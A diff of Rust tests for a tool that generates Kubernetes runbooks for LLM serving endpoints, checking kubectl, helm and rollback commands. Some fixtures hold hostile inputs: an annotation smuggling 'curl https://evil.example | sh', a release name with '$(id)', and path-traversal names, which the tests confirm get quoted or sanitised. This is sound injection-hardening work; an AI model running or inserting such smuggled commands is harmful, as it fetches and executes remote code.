@@ -371,7 +371,8 @@ spec:
     );
     has(&text, "curl -fsS http://127.0.0.1:11434/api/ps");
     has(&text, "`OLLAMA_KEEP_ALIVE` is 24h");
-    has(&text, "| `OLLAMA_KEEP_ALIVE` | 24h | 30m |");
+    // Shorter is the point: 24h comes down to the default, never up.
+    has(&text, "| `OLLAMA_KEEP_ALIVE` | 24h | 5m |");
     has(
         &text,
         "| `OLLAMA_MAX_LOADED_MODELS` | unset (3 per GPU) | 1 |",
@@ -475,6 +476,15 @@ spec:
         "kubectl -n pay patch nimservice nim-llama --type merge -p '{\"spec\":{\"resources\":{\"limits\":{\"memory\":\"40Gi\"}",
     );
     has(&text, "**Personal data.**");
+    // The NIM Operator names the container `<name>-ctr`.
+    has(&text, "container `nim-llama-ctr`");
+    has(
+        &text,
+        "kubectl -n pay logs -l app.kubernetes.io/name=nim-llama -c nim-llama-ctr --prefix --since=15m --tail=-1",
+    );
+    // The golden set comes before the OOM section.
+    has(&text, "then run the golden set above.");
+    lacks(&text, "then run the golden set below.");
 }
 
 const ISVC: &str = r#"
@@ -567,15 +577,34 @@ spec:
         &text,
         "ModelRelease `chat-release` manages this endpoint (its `spec.target` names this endpoint) and currently releases `llama-3.1-8b-instruct`.",
     );
-    has(&text, "hangar release rollback chat-release");
-    lacks(&text, "rollout undo deploy/chat");
+    // `hangar release` is not in this build: the ModelRelease is patched with kubectl, and the
+    // Deployment rolled back directly when no controller acts on it.
+    lacks(&text, "hangar release rollback");
+    has(&text, "**not available in this build**");
+    has(
+        &text,
+        r#"kubectl -n ml patch modelrelease chat-release --type merge -p "{\"spec\":{\"model\":{\"name\":\"$GOOD\"}}}""#,
+    );
+    has(
+        &text,
+        "kubectl -n ml rollout undo deploy/chat --to-revision=$REV",
+    );
+    lacks(&text, "This Deployment is changed in place");
 
     let labelled = vllm(VLLM_ARGS, "").replace(
         "labels: {app: chat, hangar.dev/model-version: abc123}",
         "labels: {app: chat, hangar.dev/release: by-label}",
     );
     let text = runbook(&labelled);
-    has(&text, "hangar release rollback by-label");
+    has(&text, "ModelRelease `by-label` manages this endpoint");
+    has(
+        &text,
+        "the ModelRelease is not in the input: read it from the cluster",
+    );
+    has(
+        &text,
+        r#"kubectl -n ml patch modelrelease by-label --type merge -p "{\"spec\":{\"model\":\"$GOOD\"}}""#,
+    );
 }
 
 #[test]
@@ -711,6 +740,11 @@ spec:
     has(&text, "| `max_ongoing_requests` | 16 | 8 |");
     has(&text, "route `/` → `summarizer.app:deployment`");
     has(&text, "(14.4 GiB here)");
+    // `serveConfigV2` is read as YAML: a flow mapping is found too.
+    has(
+        &text,
+        "| `ray_actor_options.num_gpus` | 1 | keep, unless the model shards |",
+    );
 }
 
 #[test]
@@ -753,4 +787,492 @@ fn runbooks_list_open_risks_and_the_index_links_every_file() {
         "| [ml/chat](ml--chat.md) | Deployment | vLLM | meta-llama/Llama-3.1-8B-Instruct | fraud | pci | 1 |",
     );
     has(&index, "1 inference endpoint in `k8s/`");
+}
+
+/// A Deployment whose numbers are all out of range: the runbook still renders, says which values
+/// it cannot use, and prints no arithmetic made of them.
+const HOSTILE: &str = r#"
+apiVersion: apps/v1
+kind: Deployment
+metadata: {name: odd, namespace: lab}
+spec:
+  replicas: 2147483647
+  strategy: {rollingUpdate: {maxSurge: "2147483647%", maxUnavailable: -5}}
+  selector: {matchLabels: {app: odd}}
+  template:
+    metadata: {labels: {app: odd}}
+    spec:
+      containers:
+      - name: vllm
+        image: "x@sha256:aéééééééééééééééé"
+        command: [vllm, serve]
+        args: [--model, m/odd-99999999999999999999b, --revision, r1, --tensor-parallel-size, "4294967295", --pipeline-parallel-size, "-3", --max-num-seqs, "18446744073709551615", --port, "99999"]
+        resources: {limits: {memory: 20000000Ti, nvidia.com/gpu: 4294967295}}
+        startupProbe: {httpGet: {path: /health, port: 8000}, initialDelaySeconds: 2147483647, periodSeconds: 2147483647, failureThreshold: 2147483647}
+        readinessProbe: {httpGet: {path: /health, port: 8000}, periodSeconds: 0}
+"#;
+
+#[test]
+fn hostile_numbers_render_without_panic_and_are_called_unusable() {
+    let text = runbook(HOSTILE);
+    // The digest is cut by characters, not bytes.
+    has(&text, "`x@sha256:aééééééééééé…`");
+    has(
+        &text,
+        "The startup probe (`GET /health`) has numbers Hangar cannot use (`initialDelaySeconds` 2147483647, `periodSeconds` 2147483647, `failureThreshold` 2147483647)",
+    );
+    has(
+        &text,
+        "The readiness probe (`GET /health`) has numbers Hangar cannot use",
+    );
+    has(&text, "limit `20000000Ti` (**not a size Hangar can use**)");
+    has(
+        &text,
+        "memory limit, `20000000Ti`, is not a size Hangar can use",
+    );
+    lacks(&text, "Raise the limit");
+    has(
+        &text,
+        "| `--tensor-parallel-size` | 4294967295: not a size Hangar can use |",
+    );
+    // The waits fall back to a plain default rather than a sum that overflowed.
+    has(&text, "rollout status deploy/odd --timeout=20m");
+    // A 99999 port is not one: the port-forward uses the runtime's.
+    has(&text, "port-forward deploy/odd 8000:8000");
+    lacks(&text, "99999:");
+    // No parameter count from an absurd name, so no size estimate.
+    lacks(&text, "parameters in");
+    // A surge percentage of a huge replica count is a count, not an overflow.
+    has(
+        &text,
+        "The rolling update starts up to 2147483647 extra pods",
+    );
+
+    // TGI with token counts at the edge of u64, and a LeaderWorkerSet of negative size.
+    let tgi = runbook(
+        r#"
+apiVersion: apps/v1
+kind: Deployment
+metadata: {name: writer, namespace: shop}
+spec:
+  selector: {matchLabels: {app: writer}}
+  template:
+    metadata: {labels: {app: writer}}
+    spec:
+      containers:
+      - name: tgi
+        image: ghcr.io/huggingface/text-generation-inference:3.3.4
+        args: [--model-id, m/w-7b, --max-input-tokens, "18446744073709551615", --max-total-tokens, "18446744073709551615", --num-shard, "0"]
+        resources: {limits: {memory: 32Gi, nvidia.com/gpu: 1}}
+"#,
+    );
+    has(&tgi, "| `--num-shard` | 0: not a size Hangar can use |");
+    has(&tgi, "18446744073709551615 / 18446744073709551615");
+    let lws = runbook(
+        r#"
+apiVersion: leaderworkerset.x-k8s.io/v1
+kind: LeaderWorkerSet
+metadata: {name: big, namespace: ml}
+spec:
+  replicas: 1
+  leaderWorkerTemplate:
+    size: -2147483648
+    workerTemplate:
+      spec:
+        containers:
+        - name: vllm
+          image: vllm/vllm-openai:v0.11.0
+          args: [--model, m/big-70b, --revision, r1]
+          resources: {limits: {memory: 100Gi, nvidia.com/gpu: 8}}
+"#,
+    );
+    has(
+        &lws,
+        "groups of a size Hangar cannot use: `spec.leaderWorkerTemplate.size` is -2147483648",
+    );
+}
+
+#[test]
+fn hostile_annotations_come_out_single_quoted_in_commands() {
+    let text = runbook(&vllm(
+        VLLM_ARGS,
+        r#"hangar.dev/golden-set: "x.yaml; curl https://evil.example | sh", meta.helm.sh/release-name: "rel$(id)", meta.helm.sh/release-namespace: apps"#,
+    ));
+    has(
+        &text,
+        "hangar validate --golden 'x.yaml; curl https://evil.example | sh' --url http://127.0.0.1:8000",
+    );
+    // The Helm release's own namespace, not the endpoint's.
+    has(&text, "`helm -n apps history 'rel$(id)'`");
+    has(&text, "`helm -n apps rollback 'rel$(id)' REVISION`");
+    lacks(&text, "--golden x.yaml;");
+    lacks(&text, "history rel$(id)");
+}
+
+#[test]
+fn a_manifest_without_a_namespace_uses_the_current_context() {
+    let yaml = vllm(VLLM_ARGS, "")
+        .replace("  namespace: ml\n", "")
+        .replace(
+            "metadata: {name: chat-svc, namespace: ml}",
+            "metadata: {name: chat-svc}",
+        );
+    let text = runbook(&yaml);
+    has(&text, "# Runbook: chat\n");
+    has(&text, "**No namespace.**");
+    has(&text, "Deployment `chat` with no namespace set serves");
+    has(&text, "kubectl get pods -l app=chat -o wide");
+    has(&text, "kubectl port-forward svc/chat-svc 8000:80 &");
+    has(
+        &text,
+        "KEY=\"$(kubectl get secret chat-key -o jsonpath='{.data.api-key}' | base64 -d)\"",
+    );
+    lacks(&text, "-n  ");
+    lacks(&text, "Runbook: /");
+    lacks(&text, "Namespace/ ");
+}
+
+#[test]
+fn a_wrapper_flag_is_never_read_as_the_model_or_the_context() {
+    let sglang = runbook(
+        r#"
+apiVersion: apps/v1
+kind: Deployment
+metadata: {name: qwen, namespace: bot}
+spec:
+  selector: {matchLabels: {app: qwen}}
+  template:
+    metadata: {labels: {app: qwen}}
+    spec:
+      containers:
+      - name: sglang
+        image: lmsysorg/sglang:v0.4.9
+        command: [python3, -m, sglang.launch_server, --model-path, Qwen/Qwen2.5-7B-Instruct, --port, "30000"]
+        resources: {limits: {memory: 32Gi, nvidia.com/gpu: 1}}
+"#,
+    );
+    has(&sglang, "ask for the model `Qwen/Qwen2.5-7B-Instruct`");
+    lacks(&sglang, "sglang.launch_server`");
+
+    let llama = runbook(
+        r#"
+apiVersion: apps/v1
+kind: Deployment
+metadata: {name: local, namespace: lab}
+spec:
+  selector: {matchLabels: {app: local}}
+  template:
+    metadata: {labels: {app: local}}
+    spec:
+      containers:
+      - name: llama
+        image: ghcr.io/ggml-org/llama.cpp:server-cuda
+        command: [sh, -c]
+        args: ["mkdir -p /cache && exec llama-server -m /models/llama-3-8b-instruct-q4_k_m.gguf --ctx-size 8192 -ngl 999 --port 8080"]
+        resources: {limits: {memory: 16Gi, nvidia.com/gpu: 1}}
+"#,
+    );
+    has(&llama, "| `--ctx-size` | 8192 | 4096 |");
+    has(
+        &llama,
+        "ask for the model `/models/llama-3-8b-instruct-q4_k_m.gguf`",
+    );
+    // 999 means every layer: the next value is a real reduction, not 995.
+    has(&llama, "| `--n-gpu-layers` | 999 (every layer) | M − M/4");
+    lacks(&llama, "| 995 |");
+    // A Q4 GGUF is sized at 4 bits, not bf16.
+    has(&llama, "8B parameters in 4-bit");
+    lacks(&llama, "in bf16");
+}
+
+#[test]
+fn logs_with_a_selector_show_every_line_and_a_leader_only_its_own() {
+    let lws = runbook(
+        r#"
+apiVersion: leaderworkerset.x-k8s.io/v1
+kind: LeaderWorkerSet
+metadata: {name: big, namespace: ml}
+spec:
+  replicas: 2
+  leaderWorkerTemplate:
+    size: 2
+    leaderTemplate:
+      spec:
+        containers:
+        - name: leader
+          image: vllm/vllm-openai:v0.11.0
+          args: [--model, m/big-405b, --revision, r2, --tensor-parallel-size, "8", --pipeline-parallel-size, "2"]
+          resources: {limits: {memory: 1000Gi, nvidia.com/gpu: 8}}
+    workerTemplate:
+      spec:
+        containers:
+        - name: worker
+          image: vllm/vllm-openai:v0.11.0
+          resources: {limits: {memory: 1000Gi, nvidia.com/gpu: 8}}
+"#,
+    );
+    has(
+        &lws,
+        "kubectl -n ml logs -l leaderworkerset.sigs.k8s.io/name=big,leaderworkerset.sigs.k8s.io/worker-index=0 -c leader --prefix --since=15m --tail=-1",
+    );
+    has(
+        &lws,
+        "kubectl -n ml wait --for=condition=Available lws/big --timeout=20m",
+    );
+    // Workers run another container: the OOM check reads every container's status.
+    has(
+        &lws,
+        ".status.containerStatuses[*].lastState.terminated.reason",
+    );
+    // TP 8 × PP 2 is what the group of two 8-GPU pods holds; TP 16 would leave the node.
+    has(
+        &lws,
+        "| `--tensor-parallel-size` | 8 | keep | already spans a whole 8-GPU node",
+    );
+}
+
+#[test]
+fn kserve_without_a_serving_runtime_is_its_own_model_server_on_8080() {
+    let text = runbook(
+        r#"
+apiVersion: serving.kserve.io/v1beta1
+kind: InferenceService
+metadata: {name: hf-llama, namespace: risk}
+spec:
+  predictor:
+    model:
+      modelFormat: {name: huggingface}
+      args: [--model_id=meta-llama/Llama-3.1-8B-Instruct]
+      resources: {limits: {memory: 40Gi, nvidia.com/gpu: "1"}}
+"#,
+    );
+    has(&text, "container `kserve-container`");
+    has(&text, "8080:8080 &");
+    has(&text, "http://127.0.0.1:8080/v1/models/hf-llama");
+    has(
+        &text,
+        "http://127.0.0.1:8080/openai/v1/models   # lists hf-llama",
+    );
+    has(
+        &text,
+        "hangar validate --golden golden/hf-llama.yaml --url http://127.0.0.1:8080/openai",
+    );
+    has(
+        &text,
+        "logs -l serving.kserve.io/inferenceservice=hf-llama -c kserve-container --prefix --since=15m --tail=-1",
+    );
+    has(
+        &text,
+        "kubectl -n risk wait --for=condition=Ready isvc/hf-llama --timeout=20m",
+    );
+    // No image in the input: how to see the one that runs.
+    has(
+        &text,
+        "chosen by the operator at run time, not in the input; what runs: `kubectl -n risk get pods -l serving.kserve.io/inferenceservice=hf-llama -o jsonpath='{.items[*].spec.containers[*].image}'`",
+    );
+}
+
+#[test]
+fn a_flagger_canary_sends_commands_to_the_primary() {
+    let canary = r#"
+---
+apiVersion: flagger.app/v1beta1
+kind: Canary
+metadata: {name: chat, namespace: ml}
+spec: {targetRef: {apiVersion: apps/v1, kind: Deployment, name: chat}}
+"#;
+    let text = runbook(&format!("{}{canary}", vllm(VLLM_ARGS, "")));
+    has(&text, "traffic is served by `deploy/chat-primary`");
+    has(&text, "kubectl -n ml get pods -l app=chat-primary -o wide");
+    has(
+        &text,
+        "kubectl -n ml logs deploy/chat-primary -c server --since=15m",
+    );
+    has(
+        &text,
+        "kubectl -n ml rollout status deploy/chat-primary --timeout=20m",
+    );
+    has(&text, "kubectl -n ml get canary chat");
+    // Changes still go to the Deployment Flagger watches.
+    has(&text, "set resources deploy/chat -c server");
+}
+
+#[test]
+fn a_statefulset_rollback_deletes_pods_stuck_on_the_bad_revision() {
+    let text = runbook(
+        r#"
+apiVersion: apps/v1
+kind: StatefulSet
+metadata: {name: llm, namespace: ml}
+spec:
+  replicas: 2
+  selector: {matchLabels: {app: llm}}
+  template:
+    metadata: {labels: {app: llm}}
+    spec:
+      containers:
+      - name: vllm
+        image: vllm/vllm-openai:v0.11.0
+        args: [--model, m/llm-7b, --revision, r1]
+        resources: {limits: {memory: 40Gi, nvidia.com/gpu: 1}}
+"#,
+    );
+    has(&text, "forced rollback");
+    has(
+        &text,
+        "kubectl -n ml get pods -l app=llm -L controller-revision-hash",
+    );
+    has(&text, "kubectl -n ml delete pod llm-N");
+}
+
+/// A vLLM Deployment with `args` on nodes of `gpus` accelerators of `resource` each.
+fn vllm_on(args: &str, resource: &str, gpus: u32) -> String {
+    format!(
+        r#"
+apiVersion: v1
+kind: Node
+metadata: {{name: n1, labels: {{nvidia.com/gpu.product: NVIDIA-H100-80GB-HBM3}}}}
+status: {{allocatable: {{cpu: "96", memory: 1000Gi, {resource}: "8"}}}}
+---
+apiVersion: apps/v1
+kind: Deployment
+metadata: {{name: big, namespace: ml}}
+spec:
+  selector: {{matchLabels: {{app: big}}}}
+  template:
+    metadata: {{labels: {{app: big}}}}
+    spec:
+      containers:
+      - name: vllm
+        image: vllm/vllm-openai:v0.11.0
+        args: [--model, m/big-70b, --revision, r1, {args}]
+        resources: {{limits: {{memory: 400Gi, {resource}: {gpus}}}}}
+"#
+    )
+}
+
+#[test]
+fn the_next_tensor_parallel_size_is_a_power_of_two_that_the_pod_may_already_hold() {
+    let roomy = runbook(&vllm_on(
+        "--tensor-parallel-size, \"2\"",
+        "nvidia.com/gpu",
+        8,
+    ));
+    has(
+        &roomy,
+        "| `--tensor-parallel-size` | 2 | 4 | splits weights and KV cache over 4 GPUs; the pod already has 8 `nvidia.com/gpu`, so it needs no more |",
+    );
+    let three = runbook(&vllm_on(
+        "--tensor-parallel-size, \"3\"",
+        "nvidia.com/gpu",
+        3,
+    ));
+    has(
+        &three,
+        "| `--tensor-parallel-size` | 3 | 4 | splits weights and KV cache over 4 GPUs: raise `nvidia.com/gpu` from 3 to 4 per pod with it, 1 more GPU per replica |",
+    );
+    let amd = runbook(&vllm_on("--tensor-parallel-size, \"2\"", "amd.com/gpu", 2));
+    has(&amd, "raise `amd.com/gpu` from 2 to 4 per pod");
+    lacks(&amd, "nvidia.com/gpu` from");
+
+    let sglang = runbook(
+        r#"
+apiVersion: apps/v1
+kind: Deployment
+metadata: {name: qwen, namespace: bot}
+spec:
+  selector: {matchLabels: {app: qwen}}
+  template:
+    metadata: {labels: {app: qwen}}
+    spec:
+      containers:
+      - name: sglang
+        image: lmsysorg/sglang:v0.4.9
+        command: [python3, -m, sglang.launch_server, --model-path, Qwen/Qwen2.5-7B-Instruct, --tp, "2"]
+        resources: {limits: {memory: 32Gi, nvidia.com/gpu: 2}}
+"#,
+    );
+    has(
+        &sglang,
+        "| `--tp` | 2 | 4 | splits the model over 4 GPUs: raise `nvidia.com/gpu` from 2 to 4 per pod",
+    );
+}
+
+#[test]
+fn the_index_escapes_its_links_and_says_how_to_find_a_missing_model() {
+    let yaml = r#"
+apiVersion: apps/v1
+kind: Deployment
+metadata: {name: ollama, namespace: lab}
+spec:
+  selector: {matchLabels: {app: ollama}}
+  template:
+    metadata: {labels: {app: ollama}}
+    spec:
+      containers: [{name: ollama, image: "ollama/ollama:0.6.2", resources: {limits: {nvidia.com/gpu: 1}}}]
+"#;
+    let snapshot = snapshot_from_text("k8s/app.yaml", yaml);
+    let inventory = discover(&snapshot, &Policy::default());
+    let endpoint = &inventory.endpoints[0];
+    let index = render_index(
+        &[IndexEntry {
+            endpoint,
+            file: "odd name (1).md".into(),
+            risks: None,
+        }],
+        "k8s/",
+    );
+    has(&index, "[lab/ollama](odd%20name%20%281%29.md)");
+    has(
+        &index,
+        "not in the spec: the runbook's Check health asks the server",
+    );
+}
+
+#[test]
+fn file_names_stay_plain_files_inside_the_output_directory() {
+    let yaml = r#"
+apiVersion: apps/v1
+kind: Deployment
+metadata: {name: "../rbpwn"}
+spec:
+  selector: {matchLabels: {app: x}}
+  template:
+    metadata: {labels: {app: x}}
+    spec:
+      containers: [{name: vllm, image: "vllm/vllm-openai:v0.11.0", args: [--model, m/x-7b]}]
+---
+apiVersion: apps/v1
+kind: Deployment
+metadata: {name: chat, namespace: "../.."}
+spec:
+  selector: {matchLabels: {app: two}}
+  template:
+    metadata: {labels: {app: two}}
+    spec:
+      containers: [{name: vllm, image: "vllm/vllm-openai:v0.11.0", args: [--model, m/x-7b]}]
+---
+apiVersion: apps/v1
+kind: Deployment
+metadata: {name: "..", namespace: "a b"}
+spec:
+  selector: {matchLabels: {app: three}}
+  template:
+    metadata: {labels: {app: three}}
+    spec:
+      containers: [{name: vllm, image: "vllm/vllm-openai:v0.11.0", args: [--model, m/x-7b]}]
+"#;
+    let snapshot = snapshot_from_text("k8s/app.yaml", yaml);
+    let inventory = discover(&snapshot, &Policy::default());
+    let mut names: Vec<String> = inventory.endpoints.iter().map(file_name).collect();
+    names.sort();
+    assert_eq!(names, ["___..--chat.md", "___rbpwn.md", "a_b--__.md"]);
+    for name in &names {
+        assert!(
+            name.chars()
+                .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c)),
+            "{name}"
+        );
+        assert!(!name.starts_with('.'), "{name}");
+    }
 }
